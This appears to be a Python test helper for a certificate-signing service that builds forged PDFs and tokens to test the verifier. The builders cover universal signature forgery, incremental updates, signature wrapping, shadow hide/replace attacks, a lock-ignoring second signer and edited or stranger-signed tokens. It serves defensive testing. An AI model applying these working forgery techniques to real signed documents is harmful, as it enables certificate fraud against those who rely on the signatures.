"""Builders for the attack corpus: each takes a freshly signed certsvc document (or what is
needed to sign one) and returns the attacked bytes.

The attacks follow the published PDF-signature attack classes (Mladenov et al., "1 Trillion
Dollar Refund", CCS 2019: universal signature forgery, incremental saving, signature
wrapping; Mainka et al., "Shadow Attacks", NDSS 2021: hide, replace, hide-and-replace) and
pyHanko's own crafted test files (``pyhanko_tests/data/pdf/fails``). Where an attack needs a
document prepared before signing (shadow attacks), the builder prepares the unsigned page and
has the real signer sign it, as a victim signing an attacker's template would.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from certsvc.documents import token as tokens
from certsvc.documents.factory import DocumentFactory, IssuedDocument
from certsvc.documents.record import DocumentRecord
from certsvc.keys import certificates as certs
from certsvc.keys.cose import sign1_message
from certsvc.keys.files import FilePrivateKey
from certsvc.keys.trust_list import sign_trust_list
from tests.documents.conftest import Chain

# --- trust lists --------------------------------------------------------------------------


def trust_list_jws(
    chain: Chain,
    *,
    now: datetime,
    revoked_at: datetime | None = None,
    retire_at: datetime | None = None,
    sequence: int = 1,
    agency_code: str = "BJRS",
    agency_name: str = "北京市人力资源和社会保障局",
) -> bytes:
    """A trust list signed by ``chain``'s root listing its one signer, as
    :func:`certsvc.keys.service.publish_trust_list` writes one."""
    status = "active"
    if revoked_at is not None and revoked_at <= now:
        status = "revoked"
    elif retire_at is not None and retire_at <= now:
        status = "retired"
    signer = chain.signer
    payload = {
        "type": "certsvc-trust-list",
        "version": 1,
        "sequence": sequence,
        "issued_at": now.isoformat(),
        "next_update": (now + timedelta(days=30)).isoformat(),
        "root": {
            "fingerprint_sha256": certs.fingerprint(chain.root),
            "subject": chain.root.subject.rfc4514_string()[:255],
            "not_before": chain.root.not_valid_before_utc.isoformat(),
            "not_after": chain.root.not_valid_after_utc.isoformat(),
            "certificate": certs.to_pem(chain.root),
        },
        "signers": [
            {
                "key_id": chain.key_id,
                "agency_code": agency_code,
                "agency_name": agency_name,
                "algorithm": "ecdsa-p256",
                "status": status,
                "serial_number": format(signer.serial_number, "x"),
                "not_before": signer.not_valid_before_utc.isoformat(),
                "not_after": signer.not_valid_after_utc.isoformat(),
                "active_from": signer.not_valid_before_utc.isoformat(),
                "retire_at": retire_at.isoformat() if retire_at else None,
                "revoked_at": revoked_at.isoformat() if revoked_at else None,
                "revocation_reason": "key_compromise" if revoked_at else None,
                "certificate": certs.to_pem(signer),
            }
        ],
    }
    return sign_trust_list(payload, root_key=chain.root_key, root_certificate=chain.root)


# --- helpers ------------------------------------------------------------------------------


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _byte_range(pdf: bytes) -> tuple[int, int, int, int, re.Match[bytes]]:
    match = re.search(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]( *)", pdf)
    assert match is not None
    a, b, c, d = (int(match.group(i)) for i in range(1, 5))
    return a, b, c, d, match


def _replace_byte_range(pdf: bytes, values: tuple[int, int, int, int]) -> bytes:
    """Rewrite the /ByteRange in place, keeping the file's length (the padding absorbs it)."""
    *_, match = _byte_range(pdf)
    old = match.group(0)
    text = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    assert len(text) <= len(old)
    new = text + b" " * (len(old) - len(text))
    return pdf[: match.start()] + new + pdf[match.end() :]


def _signature_dictionary(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """The (first) signature dictionary, as the writer reads it."""
    for field in writer.root["/AcroForm"]["/Fields"]:
        field = field.get_object()
        if field.get("/FT") == "/Sig" and "/V" in field:
            sig = field["/V"]
            assert isinstance(sig, generic.DictionaryObject)
            return sig
    raise AssertionError("no signature")


# --- incremental saving -------------------------------------------------------------------


def text_added_by_update(pdf: bytes) -> bytes:
    """An incremental update that adds text to the page (a forged title over the real one),
    drawn with a font the page already has."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    font = next(iter(page["/Resources"]["/Font"].keys()))
    forged = writer.add_object(
        generic.StreamObject(stream_data=f"BT {font} 18 Tf 120 120 Td <0041> Tj ET".encode())
    )
    contents = page.raw_get("/Contents")
    existing = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    page[generic.NameObject("/Contents")] = generic.ArrayObject([*existing, forged])
    writer.update_container(page)
    return _write(writer)


def annotation_added(pdf: bytes) -> bytes:
    """An incremental update that adds a free-text annotation (a stamp over the page)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    note = writer.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (100, 100, 300, 140)]
                ),
                generic.NameObject("/Contents"): generic.TextStringObject("正高级"),
                generic.NameObject("/DA"): generic.TextStringObject("/Helv 18 Tf 0 g"),
            }
        )
    )
    page["/Annots"].append(note)
    writer.update_container(page)
    return _write(writer)


def second_signature_added(pdf: bytes, attacker: Chain) -> bytes:
    """A second, approval signature by the attacker's own key, added by incremental update
    after the certification (pyHanko itself signs it, ignoring the DocMDP lock)."""
    from asn1crypto import keys as asn1_keys
    from asn1crypto import x509 as asn1_x509
    from pyhanko.sign import fields, signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    fields.append_signature_field(
        writer, fields.SigFieldSpec("Signature2", on_page=0, box=(20, 20, 120, 60))
    )
    key = asn1_keys.PrivateKeyInfo.load(
        attacker.signer_key.private_bytes(
            serialization.Encoding.DER,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    cert = asn1_x509.Certificate.load(attacker.signer.public_bytes(serialization.Encoding.DER))
    simple = signers.SimpleSigner(
        signing_cert=cert,
        signing_key=key,
        cert_registry=SimpleCertificateStore.from_certs([cert]),  # type: ignore[no-untyped-call]
    )

    class LockIgnoringSigner(signers.PdfSigner):
        def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
            """An attacker's tool does not honour the DocMDP lock."""

    meta = signers.PdfSignatureMetadata(field_name="Signature2", certify=False)
    out = LockIgnoringSigner(meta, simple).sign_pdf(writer, in_place=False)
    assert isinstance(out, io.BytesIO)
    return out.getvalue()


def empty_signature_field_added(pdf: bytes) -> bytes:
    """An unsigned signature field added after certification (a place for a second one)."""
    from pyhanko.sign import fields

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    fields.append_signature_field(
        writer, fields.SigFieldSpec("Signature2", on_page=0, box=(20, 20, 120, 60))
    )
    return _write(writer)


# --- universal signature forgery: the byte range and the contents --------------------------


def byte_range_shrunk(pdf: bytes) -> bytes:
    """/ByteRange edited in place to cover 100 bytes less at the end of the file."""
    a, b, c, d, _ = _byte_range(pdf)
    return _replace_byte_range(pdf, (a, b, c, d - 100))


def byte_range_elsewhere(pdf: bytes) -> bytes:
    """/ByteRange edited in place so that its gap is another stretch of the file than the
    signature value (the ranges are contiguous and end at the end of the file)."""
    a, b, c, d, _ = _byte_range(pdf)
    shift = 1000
    return _replace_byte_range(pdf, (a, b - shift, c - shift, d + shift))


def der_length(pdf: bytes, gap_start: int) -> int:
    """The length in bytes of the DER container whose hex starts after ``<`` at
    ``gap_start``."""
    head = bytes.fromhex(pdf[gap_start + 1 : gap_start + 13].decode())
    if head[1] < 0x80:
        return 2 + head[1]
    count = head[1] & 0x7F
    return 2 + count + int.from_bytes(head[2 : 2 + count], "big")


def padding_changed(pdf: bytes) -> bytes:
    """A byte of the signature value's zero padding set: unsigned, so the digest and the
    signature still verify, but the file (and its hash) is another."""
    _, b, c, _, _ = _byte_range(pdf)
    gap = pdf[b:c]
    position = b + gap.rstrip(b">").rstrip(b"0").__len__() + 10
    assert pdf[position : position + 1] == b"0"
    return pdf[:position] + b"7" + pdf[position + 1 :]


def signature_value_recased(pdf: bytes) -> bytes:
    """The signature value's hex digits written in lower case: the same value, another file."""
    _, b, c, _, _ = _byte_range(pdf)
    return pdf[:b] + pdf[b:c].lower() + pdf[c:]


def byte_range_by_update(pdf: bytes) -> bytes:
    """An incremental update replacing the signature dictionary with a copy whose
    /ByteRange is [0 0 0 0] (a USF variant: the viewer hashes nothing)."""
    return _update_signature(pdf, lambda sig: _set(sig, "/ByteRange", [0, 0, 0, 0]))


def contents_emptied(pdf: bytes) -> bytes:
    """An incremental update replacing the signature dictionary with a copy whose /Contents
    is an empty string (USF: no signature value to check)."""
    return _update_signature(
        pdf,
        lambda sig: sig.__setitem__(generic.NameObject("/Contents"), generic.ByteStringObject(b"")),
    )


def byte_range_removed(pdf: bytes) -> bytes:
    """An incremental update with a signature dictionary without /ByteRange."""

    def drop(sig: generic.DictionaryObject) -> None:
        del sig["/ByteRange"]

    return _update_signature(pdf, drop)


def _set(sig: generic.DictionaryObject, name: str, values: list[int]) -> None:
    sig[generic.NameObject(name)] = generic.ArrayObject([generic.NumberObject(v) for v in values])


def _update_signature(pdf: bytes, change: Callable[[generic.DictionaryObject], None]) -> bytes:
    """An incremental update rewriting the signature dictionary (same object number)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    sig = _signature_dictionary(writer)
    change(sig)
    writer.update_container(sig)
    return _write(writer)


# --- signature wrapping ----------------------------------------------------------------------


def _xref_offsets(pdf: bytes) -> dict[int, int]:
    """Object number → offset of the last revision's classic xref table."""
    start = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    table = pdf[start:]
    assert table.startswith(b"xref"), "expected a classic xref table"
    offsets: dict[int, int] = {}
    lines = iter(table.split(b"\n")[1:])
    for line in lines:
        if line.startswith(b"trailer"):
            break
        first, count = (int(v) for v in line.split())
        for number in range(first, first + count):
            entry = next(lines)
            if entry.split()[2] == b"n":
                offsets[number] = int(entry.split()[0])
    return offsets


def signature_wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the signed tail (after the signature value) is moved to the end;
    in the space this makes, a new signature dictionary (same /Contents, /ByteRange pointing
    at the moved tail, so the digest is unchanged) and a new page content are inserted, and a
    new xref section at the very end makes them the current objects."""
    _, b, c, d, _ = _byte_range(pdf)
    reader = PdfFileReader(io.BytesIO(pdf))
    (signature,) = reader.embedded_signatures
    reference = signature.sig_field.raw_get("/V")
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    sig_bytes = _object_bytes(pdf, reference.idnum)
    page_bytes = _object_bytes(pdf, page_ref.idnum)
    size = int(reader.trailer["/Size"])
    original_xref = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])

    head, tail = pdf[:c], pdf[c:]
    inserted = bytearray(b"\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(head) + len(inserted)
        inserted.extend(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")

    content_number = size
    add(content_number, _stream(b"BT /F1 24 Tf 100 300 Td (FORGED CONTENT) Tj ET"))
    # the page, drawing the new content instead of its own
    page_new = re.sub(
        rb"/Contents (\d+ 0 R|\[[^\]]*\])",
        f"/Contents {content_number} 0 R".encode(),
        page_bytes,
        count=1,
    )
    add(page_ref.idnum, page_new)
    # the signature dictionary, identical but for a byte range naming the moved tail; written
    # with a fixed-width placeholder first, since the tail's new offset depends on its size
    sig_offset = len(head) + len(inserted)
    placeholder = b"/ByteRange [0 0000000000 0000000000 0000000000]"
    sig_new = re.sub(rb"/ByteRange \[[^\]]*\] *", placeholder, sig_bytes, count=1)
    offsets[reference.idnum] = sig_offset
    inserted.extend(f"{reference.idnum} 0 obj\n".encode() + sig_new + b"\nendobj\n")
    moved_start = len(head) + len(inserted)
    byte_range = f"/ByteRange [0 {b:010d} {moved_start:010d} {d:010d}]".encode()
    body = bytes(inserted).replace(placeholder, byte_range)
    assert len(body) == len(inserted)

    shift = moved_start - c
    old_offsets = _xref_offsets(pdf)
    moved = {n: o + shift for n, o in old_offsets.items() if o >= c}
    entries = {**moved, **offsets}
    xref_at = moved_start + len(tail)
    xref = bytearray(b"xref\n")
    for number in sorted(entries):
        xref.extend(f"{number} 1\n{entries[number]:010d} 00000 n \n".encode())
    trailer = reader.trailer
    xref.extend(
        b"trailer\n<< /Size "
        + str(content_number + 1).encode()
        + b" /Root "
        + f"{trailer.raw_get('/Root').idnum} 0 R".encode()
        + b" /Prev "
        + str(original_xref + shift).encode()
        + b" >>\nstartxref\n"
        + str(xref_at).encode()
        + b"\n%%EOF\n"
    )
    return head + body + tail + bytes(xref)


def update_with_forged_signature_copy(pdf: bytes) -> bytes:
    """Wrapping by a second xref: an update re-points the page at new content and carries a
    copy of the signature dictionary, unchanged, so that a viewer still finds 'a valid
    signature' while showing the new page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    forged = writer.add_object(generic.StreamObject(stream_data=b"0 0 m 600 600 l S"))
    page[generic.NameObject("/Contents")] = forged
    writer.update_container(page)
    writer.update_container(_signature_dictionary(writer))
    return _write(writer)


def _object_bytes(pdf: bytes, number: int) -> bytes:
    """The body of the last definition of object ``number`` (between ``obj`` and ``endobj``)."""
    offset = _xref_offsets(pdf)[number]
    start = pdf.index(b"obj", offset) + 3
    end = pdf.index(b"endobj", start)
    return pdf[start:end].strip()


def _stream(data: bytes) -> bytes:
    return b"<< /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream"


# --- shadow attacks --------------------------------------------------------------------------

OVERLAY = "/CertsvcOverlay"


def _prepared_with_overlay(unsigned: bytes, visible: bytes, hidden: bytes | None) -> bytes:
    """The unsigned page with a form XObject drawn last (``visible``: empty for a shadow
    overlay) and, for hide-and-replace, an unused second content stream (``hidden``)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(unsigned))
    page = _first_page(writer)
    box = page["/MediaBox"]
    overlay = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(list(box)),
        },
        stream_data=visible,
    )
    overlay_ref = writer.add_object(overlay)
    resources = page["/Resources"]
    xobjects = resources.get("/XObject", generic.DictionaryObject())
    xobjects[generic.NameObject(OVERLAY)] = overlay_ref
    resources[generic.NameObject("/XObject")] = xobjects
    draw = writer.add_object(generic.StreamObject(stream_data=f"q {OVERLAY} Do Q".encode()))
    contents = page.raw_get("/Contents")
    existing = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    page[generic.NameObject("/Contents")] = generic.ArrayObject([*existing, draw])
    if hidden is not None:
        shadow = writer.add_object(generic.StreamObject(stream_data=hidden))
        page[generic.NameObject("/CertsvcShadow")] = shadow  # kept, never drawn
    writer.update_container(page)
    return _write(writer)


WHITE_BOX = b"1 1 1 rg 0 0 2000 2000 re f"
REPLACEMENT = b"BT /Helv 20 Tf 200 300 Td (Replaced) Tj ET"


def sign_prepared(
    factory: DocumentFactory, record: DocumentRecord, prepare: Callable[[bytes], bytes]
) -> IssuedDocument:
    """What :meth:`DocumentFactory.make` does, with the unsigned page passed through
    ``prepare`` (an attacker's template) before the real signer signs it."""
    record = factory.prepare(record)
    cose = tokens.sign_token(
        tokens.claims_from_record(record), factory.material.handle, factory.material.key_id
    )
    token_text = tokens.encode_token(cose)
    matrix, version = tokens.qr_matrix(tokens.verification_url(factory.base_url, token_text))
    unsigned = factory.renderer.render(
        record, qr_matrix=matrix, verify_url=factory.verify_page, with_seal=False
    )
    signer = factory._signers[record.document_type]
    pdf = signer.sign(prepare(unsigned), record, token_text)
    return IssuedDocument(record, pdf, token_text, version, hashlib.sha256(pdf).hexdigest(), {})


def signed_with_token(factory: DocumentFactory, record: DocumentRecord, token_text: str) -> bytes:
    """``record`` rendered and signed by the real signer, with ``token_text`` attached (and in
    the QR code) instead of its own token."""
    record = factory.prepare(record)
    matrix, _ = tokens.qr_matrix(tokens.verification_url(factory.base_url, token_text))
    unsigned = factory.renderer.render(
        record, qr_matrix=matrix, verify_url=factory.verify_page, with_seal=False
    )
    return factory._signers[record.document_type].sign(unsigned, record, token_text)


def shadow_prepared(kind: str) -> Callable[[bytes], bytes]:
    hidden = REPLACEMENT if kind == "hide-and-replace" else None
    return lambda unsigned: _prepared_with_overlay(unsigned, b"", hidden)


def shadow_revealed(pdf: bytes, kind: str) -> bytes:
    """After signing, the attacker's incremental update: *hide* fills the overlay with a
    white box; *replace* puts new text in it; *hide-and-replace* points the page at the
    prepared shadow content instead of its own."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    if kind == "hide-and-replace":
        page[generic.NameObject("/Contents")] = page.raw_get("/CertsvcShadow")
        writer.update_container(page)
        return _write(writer)
    reference = page["/Resources"]["/XObject"].raw_get(OVERLAY).reference
    overlay = writer.get_object(reference)
    data = WHITE_BOX if kind == "hide" else REPLACEMENT
    replaced = generic.StreamObject(dict(overlay.items()), stream_data=data)
    del replaced["/Length"]
    writer.mark_update(reference)
    writer.objects[(reference.generation, reference.idnum)] = replaced
    return _write(writer)


# --- tokens ----------------------------------------------------------------------------------


def token_with_edited_field(token_text: str, **changes: Any) -> str:
    """The token with one or more fields of its payload changed and its signature kept."""
    cose = tokens.decode_token(token_text)
    _, claims = tokens.read_unverified(cose)
    parsed = tokens._parse(cose)
    edited = dataclasses.replace(claims, **changes)
    return tokens.encode_token(
        sign1_message(parsed.protected, tokens._payload(edited), parsed.signature)
    )


def token_signed_by_stranger(token_text: str) -> tuple[str, str]:
    """The token's claims signed by a fresh P-256 key that no trust list has; and its key id."""
    key = ec.generate_private_key(ec.SECP256R1())
    key_id = certs.key_id_for(key.public_key())
    _, claims = tokens.read_unverified(tokens.decode_token(token_text))
    claims = dataclasses.replace(claims, key_id=key_id)
    return tokens.encode_token(tokens.sign_token(claims, FilePrivateKey(key), key_id)), key_id


def now_utc() -> datetime:
    return datetime.now(UTC)
